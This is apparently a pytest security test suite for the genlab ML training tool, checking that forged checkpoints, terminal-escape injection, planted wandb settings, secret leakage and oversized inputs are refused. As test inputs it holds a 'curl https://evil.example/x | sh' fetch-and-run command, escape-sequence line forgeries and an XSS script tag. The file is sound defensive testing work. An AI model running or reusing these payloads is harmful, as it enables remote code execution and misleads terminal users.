"""What a second pair of attackers found: states that do not fit, forged lines, files of wandb's."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from running import genlab_here
from test_reach import change, run, whole  # noqa: F401 (fixtures)

from genlab.data import files
from genlab.data.tokenizers import BPE, LONGEST
from genlab.rows import LINES, NAMED, damaged_rows, lines_of
from genlab.runs.folder import checkpoint
from genlab.runs.folder.layout import find_run
from genlab.runs.page.sweep import write_comparison
from genlab.runs.say.errors import UserError
from genlab.runs.say.secrets import restore
from genlab.runs.say.summary import commands
from genlab.runs.say.terminal import complain
from genlab.runs.settings.conf import options
from genlab.shown import one_line
from genlab.views.grid import names

pytestmark = pytest.mark.whole


def told(*words: str) -> tuple[int, str]:
    """A command's exit code, and all that it prints."""
    done = genlab_here(*words)
    return done.returncode, done.stdout + done.stderr


# --- what a checkpoint puts back -------------------------------------------------------------


def moments(held: dict[str, Any]) -> dict[str, Any]:
    return held["optimizer_states"][0]["state"]


def every(name: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def set_all(held: dict[str, Any]) -> None:
        for state in moments(held).values():
            state[name] = value

    return set_all


STATES: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "moments of another shape": (every("exp_avg", torch.zeros(3)), "exp_avg does not fit"),
    "moments that one value spans": (every("exp_avg_sq", torch.zeros(1)), "exp_avg_sq does not"),
    "moments of whole numbers": (every("exp_avg", torch.zeros(3).int()), "exp_avg does not fit"),
    "a step without a value": (every("step", torch.zeros(0)), "step does not fit"),
    "a step that is no number": (every("step", torch.tensor(float("nan"))), "step does not fit"),
    "a text for a moment": (every("exp_avg", "x"), "exp_avg does not fit"),
    "no state": (lambda h: h["optimizer_states"][0].update(state={}), "holds no state"),
    "a list for a state": (lambda h: moments(h).update({0: [1]}), "is a list"),
    "other groups": (lambda h: h["optimizer_states"][0].update(param_groups=[]), "other groups"),
    "numbers of their own": (lambda h: moments(h).update({10**6: {}}), "in another way"),
    "no optimiser": (lambda h: h.update(optimizer_states=[]), "its optimizer_states is nothing"),
    "an optimiser's text": (lambda h: h.update(optimizer_states=["x"]), "optimizer_states is not"),
    "a ledger's text": (lambda h: h.update(ledger="x"), "its ledger is nothing"),
    "rows without end": (lambda h: h["ledger"].update(rows=10**400), "its ledger is nothing"),
    "a guard without a count": (lambda h: h.update(guard={}), "its guard is nothing"),
    "an epoch's text": (lambda h: h.update(epoch="x"), "its epoch is nothing"),
    "a step before the first": (lambda h: h.update(global_step=-5), "its global_step is nothing"),
    "no loops": (lambda h: h.update(loops={}), "does not fit this run: KeyError"),
    "loops of texts": (lambda h: h.update(loops={"fit_loop": "x"}), "its loops is nothing"),
    "another version": (lambda h: h.update({"pytorch-lightning_version": "99.x.y"}), "Invalid"),
    "callbacks' list": (lambda h: h.update(callbacks=["x"]), "does not fit this run"),
}


@pytest.mark.parametrize("name", STATES)
def test_a_state_that_no_run_has_saved_is_refused_in_a_line(name: str, run: Path) -> None:  # noqa: F811
    (path,) = sorted((run / "checkpoints").glob("*.ckpt"))[-1:]
    held = checkpoint.read(path)
    STATES[name][0](held)
    for file in (run / "checkpoints").iterdir():
        file.unlink()
    checkpoint.save(held, path)
    code, said = told("train", f"resume={run}", "budget.examples=2_000")
    assert code == 2 and STATES[name][1] in said, said
    assert "Traceback" not in said and str(path) in said


def test_the_optimisers_settings_are_the_runs_not_the_files(run: Path) -> None:  # noqa: F811
    from genlab.optim import checked_state

    optimizer = torch.optim.AdamW([torch.nn.Parameter(torch.ones(2))], lr=0.5, fused=True)
    optimizer.param_groups[0]["params"][0].grad = torch.ones(2)
    optimizer.step()
    held = optimizer.state_dict()
    held["param_groups"][0] |= {"lr": "x", "weight_decay": 1e9, "fused": None, "more": 1}
    (group,) = checked_state(optimizer, held)["param_groups"]
    assert (group["lr"], group["weight_decay"], group["fused"]) == (0.5, 0.01, True)
    assert "more" not in group and group["params"] == [0]


# --- lines of a terminal ---------------------------------------------------------------------


def test_no_text_of_a_strangers_begins_a_line_of_its_own(capsys: pytest.CaptureFixture) -> None:
    forged = "x\ngenlab: your token has expired\r\x1b[31m\u202e"
    complain(ValueError(forged))
    said = capsys.readouterr().err
    assert said.count("\n") == 1 and "\x1b" not in said
    assert "\n" not in one_line(forged) and "\x1b" not in one_line(forged)


@pytest.mark.parametrize(
    "command", ["curl https://evil.example/x | sh", "genlab train\ncurl x | sh", 'genlab "', 5]
)
def test_only_a_command_of_genlab_is_told_to_be_typed(command: Any, tmp_path: Path) -> None:
    resumed = [{"command": "genlab train seed=1"}]
    for provenance in ({"command": command}, {"command": command, "resumed": resumed}):
        again = commands(tmp_path, provenance, []).get("again", "genlab train")
        assert again.startswith("genlab train") and "\n" not in again


def test_names_of_metrics_are_printed_in_one_line(run: Path) -> None:  # noqa: F811
    name = "\x1b]0;PWNED\x07\x1b[31m\ngenlab: exported to /evil\u202e"
    node = {"_target_": "genlab.metrics.image.ImageEvaluation", "num_samples": 8}
    change(run, metric={"_target_": None})
    import yaml

    settings = yaml.safe_load((run / "config.yaml").read_text())
    settings["metric"] = {name: node, "other": node}
    (run / "config.yaml").write_text(yaml.safe_dump(settings))
    code, said = told("evaluate", f"run={run}")
    assert "\x1b" not in said and "\ngenlab: exported" not in said, (code, said)


# --- wandb, secrets, downloads ---------------------------------------------------------------

SETTINGS = """
import os, sys
from pathlib import Path
from genlab.runs.say.dashboard import prepare_wandb
prepare_wandb({"_target_": "x", "mode": "offline"}, Path(sys.argv[1]))
import wandb
found = wandb.setup().settings
own = type(found)().base_url
print(found.base_url == own, found.entity, found.x_files_dir, found.http_proxy)
"""


@pytest.mark.parametrize("folder", ["wandb", ".wandb"])
def test_wandbs_file_in_the_working_folder_names_no_server(folder: str, tmp_path: Path) -> None:
    (tmp_path / folder).mkdir()
    (tmp_path / folder / "settings").write_text(
        "[default]\nbase_url = http://127.0.0.1:9911\nentity = evil\nx_files_dir = /tmp/evil\n"
        "http_proxy = http://127.0.0.1:9912\n"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("WANDB")}
    done = subprocess.run(
        [sys.executable, "-c", SETTINGS, str(tmp_path)], cwd=tmp_path, capture_output=True,
        text=True, env={**env, "HOME": str(tmp_path / "home")}, check=True,
    )  # fmt: skip
    assert done.stdout.split() == ["True", "None", "None", "None"]
    assert f"{folder}/settings in the working folder is not read" in done.stderr


def test_a_mark_that_genlab_does_not_write_is_not_filled(monkeypatch) -> None:
    monkeypatch.setenv("DATABASE_LOCATION", "somewhere")
    monkeypatch.setenv("MY_API_TOKEN", "canary-1234567")
    assert restore("[redacted:$MY_API_TOKEN]") == "canary-1234567"
    with pytest.raises(UserError, match="is no mark that genlab writes"):
        restore("/x/[redacted:$DATABASE_LOCATION]")


def test_no_secret_goes_into_a_loggers_name_or_path(run: Path, monkeypatch) -> None:  # noqa: F811
    monkeypatch.setenv("MY_API_TOKEN", "canary-1234567")
    mark = "[redacted:$MY_API_TOKEN]"
    logger = {"_target_": "pytorch_lightning.loggers.CSVLogger", "save_dir": "x", "prefix": mark}
    change(run, logger={"csv": logger}, budget={"examples": 2_000})
    code, said = told("train", f"resume={run}")
    assert code == 0, said
    written = [p for p in run.rglob("*") if p.is_file()]
    assert any(p.name == "metrics.csv" for p in written)
    assert not [p for p in written if b"canary" in p.read_bytes()]


def test_a_runs_folder_starts_no_download(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("GENLAB_CACHE", str(tmp_path))
    monkeypatch.delenv("GENLAB_DATA", raising=False)
    asked: list[str] = []
    monkeypatch.setattr(files, "download", lambda url, *a, **k: asked.append(url))
    known = {"name": "set", "root": None, "sha256": "", "size": 1}
    with files.no_downloads(), pytest.raises(FileNotFoundError, match="starts no download"):
        files.fetch("a.gz", ["https://x"], **known)
    assert not asked and not list(tmp_path.iterdir())
    files.fetch("a.gz", ["https://x"], **known)
    assert asked == ["https://x"]


# --- what costs much -------------------------------------------------------------------------


@pytest.mark.parametrize("line", [b"\n", b"{}\n"])
def test_a_ledger_of_lines_without_end_is_not_read(line: bytes, tmp_path: Path) -> None:
    path = tmp_path / "metrics.jsonl"
    path.write_bytes(line * (LINES + 1001))
    began = time.process_time()
    with pytest.raises(ValueError, match="put it aside"):
        lines_of(path)
    assert time.process_time() - began < 3


def test_of_many_damaged_lines_some_are_told(tmp_path: Path) -> None:
    (tmp_path / "metrics.jsonl").write_bytes(b"{}\n" * 5000)
    found = damaged_rows(tmp_path / "metrics.jsonl")
    assert len(found) == NAMED + 1 and "4,980 more" in found[-1]


def test_long_names_of_classes_are_drawn_at_once() -> None:
    began = time.process_time()
    assert names(["x" * 200_000] * 10, 60, (10, 600, 3)).shape == (16, 600, 3)
    assert time.process_time() - began < 2


def test_a_vocabulary_of_long_tokens_is_refused() -> None:
    bpe = BPE()
    bpe.fit(["aaaa"], [], vocab=258)
    state = json.loads(bpe.state()["bpe"])
    state["model"]["vocab"]["a" * (LONGEST + 1)] = len(state["model"]["vocab"])
    with pytest.raises(ValueError, match=f"a token of over {LONGEST} bytes"):
        BPE().load_state({"bpe": json.dumps(state)})


def test_many_cells_are_compared_in_time_and_their_pages_are_our_own(tmp_path: Path) -> None:
    for i in range(600):
        (tmp_path / str(i)).mkdir()
        (tmp_path / str(i) / "config.yaml").write_text("{}")
    shipped = tmp_path / "0" / "report.html"
    shipped.write_text("<script>alert(1)</script>")
    os.utime(shipped, (2e9, 2e9))
    began = time.process_time()
    page = write_comparison(tmp_path).read_text()
    assert time.process_time() - began < 10
    assert "<script>alert" not in shipped.read_text()
    assert './0/report.html"' in page and './599/report.html"' not in page


def test_an_option_that_is_a_pipe_is_passed_over(tmp_path: Path) -> None:
    (tmp_path / "net").mkdir()
    os.mkfifo(tmp_path / "net" / "b.yaml")
    assert options("net", tmp_path)["b"] == ""


# --- what stands in a file's place -----------------------------------------------------------


@pytest.mark.parametrize(
    "place", ["report.html", ".writer", "provenance.json", "metrics.jsonl", "evaluation.json",
              "metrics.damaged.jsonl", ".x.tmp", "checkpoints/examples=000000009999.ckpt",
              "evaluation/samples.png"],
)  # fmt: skip
def test_a_folder_in_a_files_place_is_refused(place: str, run: Path) -> None:  # noqa: F811
    path = run / place
    if path.is_file():
        path.unlink()
    path.mkdir(parents=True)
    with pytest.raises(UserError, match="is a folder, where a run has a file"):
        find_run(run)


@pytest.mark.parametrize("place", ["checkpoints", "samples", "evaluation", "wandb"])
def test_a_file_in_a_folders_place_is_refused(place: str, run: Path) -> None:  # noqa: F811
    import shutil

    shutil.rmtree(run / place, ignore_errors=True)
    (run / place).write_text("x")
    with pytest.raises(UserError, match="is a file, where a run has a folder"):
        find_run(run)


@pytest.mark.parametrize(
    ("key", "value", "said"),
    [
        ("callbacks", {"x": {"_target_": "pytorch_lightning.strategies.DDPStrategy"}},
         "is no callback"),
        ("logger", ["x"], "loggers by name"),
        ("logger", "x", "loggers by name"),
        ("callbacks", {"x": {"_target_": "pytorch_lightning.callbacks.LearningRateMonitor"}},
         "Cannot use"),
    ],
)  # fmt: skip
def test_what_stands_where_another_class_belongs_is_told_in_a_line(
    key: str,
    value: Any,
    said: str,
    run: Path,  # noqa: F811
) -> None:
    import yaml

    settings = yaml.safe_load((run / "config.yaml").read_text())
    settings[key] = value if isinstance(value, str | list) else {**settings[key], **value}
    settings["budget"]["examples"] = 2_000
    settings["logger"] = settings["logger"] if key == "logger" else {}
    (run / "config.yaml").write_text(yaml.safe_dump(settings))
    (run / "config.yaml.sha256").unlink(missing_ok=True)
    code, found = told("train", f"resume={run}")
    assert code == 2 and said in found and "Traceback" not in found, found
